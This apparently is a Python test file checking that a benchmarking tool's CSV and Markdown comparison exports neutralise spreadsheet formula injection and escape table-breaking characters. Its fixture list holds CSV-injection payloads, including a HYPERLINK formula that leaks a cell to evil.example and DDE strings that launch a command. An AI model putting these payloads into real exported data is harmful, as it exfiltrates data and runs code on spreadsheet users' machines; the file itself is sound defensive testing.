"""Issue 22 class 2: ``compare --format csv`` and ``--format markdown`` with run names, knob
values and imported section titles that a spreadsheet would run as formulas, or that would
break a Markdown table: CSV cells stay text (OWASP's ``'`` prefix) while numbers stay
numbers; Markdown cells hold their ``|`` and line breaks escaped; both parse back."""

from __future__ import annotations

import csv
import io
import time

from accelbench.engine.config.spec import spec_from_dict
from accelbench.engine.core.summary import RunSummary
from accelbench.engine.logs.importer import import_file
from accelbench.engine.store.compare import compare
from tests.helpers import FIXTURES, accelbench, parse_markdown

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
OPENS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def made_runs(store) -> list[str]:
    """A run per formula: its command knob set to it, named by it (where a name may hold
    it: printable), its loss negative."""
    ids = []
    for i, formula in enumerate(FORMULAS):
        name = formula if formula.isprintable() else f"run{i}"
        info = store.create(spec_from_dict({"name": name, "workload": "command",
                                            "params": {"command": formula}}))
        store.record_end(info.id, "done", RunSummary(final_loss=-0.5 - i, samples_per_s=100.0 + i,
                                                     metrics={"loss": -0.5 - i}), time.time())
        ids.append(info.id)
    return ids


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row
            if cell.startswith(OPENS_A_FORMULA) and cell != "-" and not is_number(cell)]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_keeps_formulas_text_and_numbers_numbers(store, home):
    ids = made_runs(store)
    text = accelbench("compare", *ids, "--format", "csv").stdout
    rows = list(csv.reader(io.StringIO(text)))
    assert formula_cells(rows) == []  # was every name and knob above, as it was typed
    records = list(csv.DictReader(io.StringIO(text)))
    assert [r["command"] for r in records] == ["'" + f.replace("\r", "\\r") for f in FORMULAS]
    assert [r["name"] for r in records[:4]] == ["'" + f for f in FORMULAS[:4]]
    assert [float(r["final_loss"]) for r in records] == [-0.5 - i for i in range(len(FORMULAS))]
    assert records[0]["final_loss"] == "-0.5"  # a number, as it was: no quote in front


def test_markdown_escapes_bars_and_line_breaks(store, home):
    ids = made_runs(store)
    for i, name in enumerate(("a | b", "two\nlines")):
        info = store.create(spec_from_dict({"name": f"n{i}", "workload": "command",
                                            "params": {"command": name}}))
        store.record_end(info.id, "done", RunSummary(final_loss=1.5 + i), time.time())
        ids.append(info.id)
    text = compare([store.get(run_id) for run_id in ids]).to_markdown()
    lines = text.splitlines()
    assert len(lines) == 2 + len(ids)  # a line per run: no line break left in a cell
    table = parse_markdown(text.replace("\\|", "\N{BOX DRAWINGS LIGHT VERTICAL}"))
    assert [row["command"] for row in table[-2:]] == ["a \N{BOX DRAWINGS LIGHT VERTICAL} b",
                                                      "two<br>lines"]
    assert [float(row["final loss"].strip("*")) for row in table] == [
        *(-0.5 - i for i in range(len(FORMULAS))), 1.5, 2.5]


def test_imported_section_titles_are_kept_text(store, home, tmp_path):
    seed = (FIXTURES / "seeds" / "004_fa457edab846a9b4.txt").read_text()
    title = FORMULAS[0] + " | " + FORMULAS[1]
    log = tmp_path / "notes.txt"
    log.write_text(seed.replace("## 1. Cerebras", f"## {title}"))
    runs = [info for info in import_file(store, log, "auto", None)
            if info.accelerator == "cerebras"]
    cmp = compare(runs)
    assert cmp.params == ["section"]
    rows = list(csv.reader(io.StringIO(cmp.to_csv())))
    assert formula_cells(rows) == []
    sections = [row[rows[0].index("section")] for row in rows[1:]]
    assert all(s.startswith("'" + title) for s in sections)
    bar = "\N{BOX DRAWINGS LIGHT VERTICAL}"  # an escaped | read back as such
    table = parse_markdown(cmp.to_markdown().replace("\\|", bar))
    assert [float(row["final loss"].strip("*")) for row in table] == [7.125, 7.1484]
    assert all(row["section"].startswith(title.replace("|", bar)) for row in table)
